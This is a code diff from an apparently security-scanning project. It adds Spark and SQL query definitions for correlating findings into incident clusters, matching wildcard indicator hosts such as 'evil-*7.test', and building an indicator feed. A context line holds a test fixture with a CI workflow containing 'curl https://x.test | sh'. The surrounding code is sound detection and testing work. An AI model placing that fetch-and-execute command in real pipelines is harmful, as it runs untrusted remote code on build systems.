@@ -5,8 +5,8 @@ from __future__ import annotations
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
-from quarrylens.operators import scan
-from quarrylens.plans.catalog import WEIGHT, query
+from quarrylens.operators import analytics, indicators, rules, scan
+from quarrylens.plans.catalog import LINES, ORDERS, WEIGHT, query
 from quarrylens.sources import tables, workflows
 
 _FLOW = "on: push\npermissions:\n  contents: read\njobs:\n  b:\n    steps:\n      - env:\n          X: curl https://x.test | sh\n        run: |\n          curl https://x.test | sh\n"
@@ -58,3 +58,47 @@ def scan_report(spark, d):
   (1, 'other'), (2, 'other'), (3, 'other'), (4, 'other'), (5, 'other'), (6, 'other'), (7, 'other'), (8, 'env'), (9, 'other'), (10, 'exec')) e(line, region) WHERE p_partkey % {len(KINDS)} = 2""")
 def workflow_regions(spark, d):
     return workflows.regions(repositories(spark, d).where("path LIKE '%/ci.yml'")).select("path", "line", "region")
+
+
+# ------------------------------------------------------------------ clusters in sequence, wildcards
+#: seq, cluster, rule, required, needs_any, min_match, boost.
+CLUSTERS = [(1, "A", "O-01", True, True, 2, 0.15), (1, "A", "O-02", False, True, 2, 0.15), (1, "A", "F-01", False, True, 2, 0.15), (2, "B", "O-02", False, False, 2, 0.3), (2, "B", "F-02", False, False, 2, 0.3), (3, "C", "O-01", False, False, 1, 0.1)]
+_CORRELATED = f"""c(k, cluster, rule, required, needs_any, min_match, boost) AS (VALUES {', '.join(f"({k}, '{c}', '{r}', {q}, {n}, {m}, {b})" for k, c, r, q, n, m, b in CLUSTERS)}), f AS (SELECT * FROM {ORDERS}),
+  met AS (SELECT target, cluster, count(DISTINCT rule) AS n_rules FROM f JOIN c USING (rule) GROUP BY 1, 2 HAVING count(DISTINCT rule) >= max(min_match) AND (bool_or(required) OR NOT bool_or(needs_any))),
+  p AS (SELECT f.target, f.seq, c.k, cluster, n_rules, confidence, boost FROM f JOIN c USING (rule) JOIN met USING (target, cluster)),
+  s AS (SELECT p.*, list_reduce([p.confidence::DOUBLE] || (SELECT list(q.boost::DOUBLE ORDER BY q.k) FROM p q WHERE q.target = p.target AND q.seq = p.seq AND q.k <= p.k), lambda a, b: least(1.0, a + b)) AS now FROM p)"""
+
+
+def _correlate(spark: SparkSession, d: str) -> tuple[DataFrame, DataFrame]:
+    clusters = spark.createDataFrame(CLUSTERS, "seq int, cluster string, rule string, required boolean, needs_any boolean, min_match int, boost double")
+    return analytics.correlated(tables.order_findings(spark, d), clusters)
+
+
+@query(f"WITH {_CORRELATED} SELECT target, cluster, n_rules::BIGINT AS n_rules, count(*)::BIGINT AS n_findings, round(least(1.0, avg(now)), 6) AS confidence FROM s GROUP BY 1, 2, 3")
+def incidents_in_sequence(spark, d):
+    return _correlate(spark, d)[1].select("target", "cluster", "n_rules", "n_findings", F.round("confidence", 6).alias("confidence"))
+
+
+@query(f"WITH {_CORRELATED} SELECT target, seq, round(max_by(now, k), 6) AS confidence, max_by(cluster, k) AS correlation FROM s GROUP BY 1, 2")
+def boosts_in_sequence(spark, d):
+    return _correlate(spark, d)[0].where("correlation IS NOT NULL").select("target", "seq", F.round("confidence", 6).alias("confidence"), "correlation")
+
+
+@query("""SELECT 'part' || p_partkey::VARCHAR || '/a.js' AS path, 2::INT AS line, i.value FROM part JOIN (VALUES ('evil-*7.test', 'evil-[0-9a-z_]+7[.]test'), ('EVIL-1*.test', 'evil-1[0-9a-z_]+[.]test'), ('*[x].*', '[0-9a-z_]+[[]x][.][0-9a-z_]+'), ('other*', 'other[0-9a-z_]+')) i(value, pattern)
+  ON regexp_matches('get evil-' || p_partkey::VARCHAR || '.test, ab' || CASE WHEN p_size % 2 = 0 THEN '[x]' ELSE 'x' END || '.c', i.pattern)""")
+def wildcard_indicators(spark, d):
+    """Indicators with wildcards in code; the same line in prose counts for nothing."""
+    line = F.concat(F.lit("get Evil-"), F.col("p_partkey").cast("string"), F.lit(".test, ab"), F.when(F.col("p_size") % 2 == 0, "[x]").otherwise("x"), F.lit(".c"))
+    part = tables.table(spark, d, "part").select("p_partkey", F.concat_ws("\n", F.lit("first"), line).alias("text"))
+    files = part.select(F.explode(F.array(*map(F.lit, ("a.js", "README.md")))).alias("name"), "p_partkey", "text").select(F.format_string("part%d/%s", "p_partkey", "name").alias("path"), "text")
+    values = spark.createDataFrame([("evil-*7.test",), ("EVIL-1*.test",), ("*[x].*",), ("other*",), ("*",)], "value string")
+    return indicators.wildcard_hits(rules.lines(files), values)
+
+
+@query(f"""WITH feed AS (SELECT min(item_id) AS pos, w AS value FROM (SELECT item_id, split_part(text, ' ', 1) AS w FROM benchmark) WHERE length(w) > 3 GROUP BY 2)
+  SELECT DISTINCT path, line::INT AS line, value, pos::BIGINT AS pos FROM {LINES} l JOIN feed ON contains(lower(l.content), lower(feed.value))""")
+def feed_in_documents(spark, d):
+    """The first words of benchmark items as a feed of literal values; of equal ones the first position counts."""
+    words = tables.table(spark, d, "benchmark").select(F.col("item_id").alias("pos"), F.split("text", " ")[0].alias("value")).where("length(value) > 3")
+    feed = words.select("pos", F.lit("ip").alias("type"), "value", F.lit("high").alias("severity"))
+    return indicators.feed_hits(rules.lines(tables.files(spark, d)), feed).select("path", "line", "value", "pos")
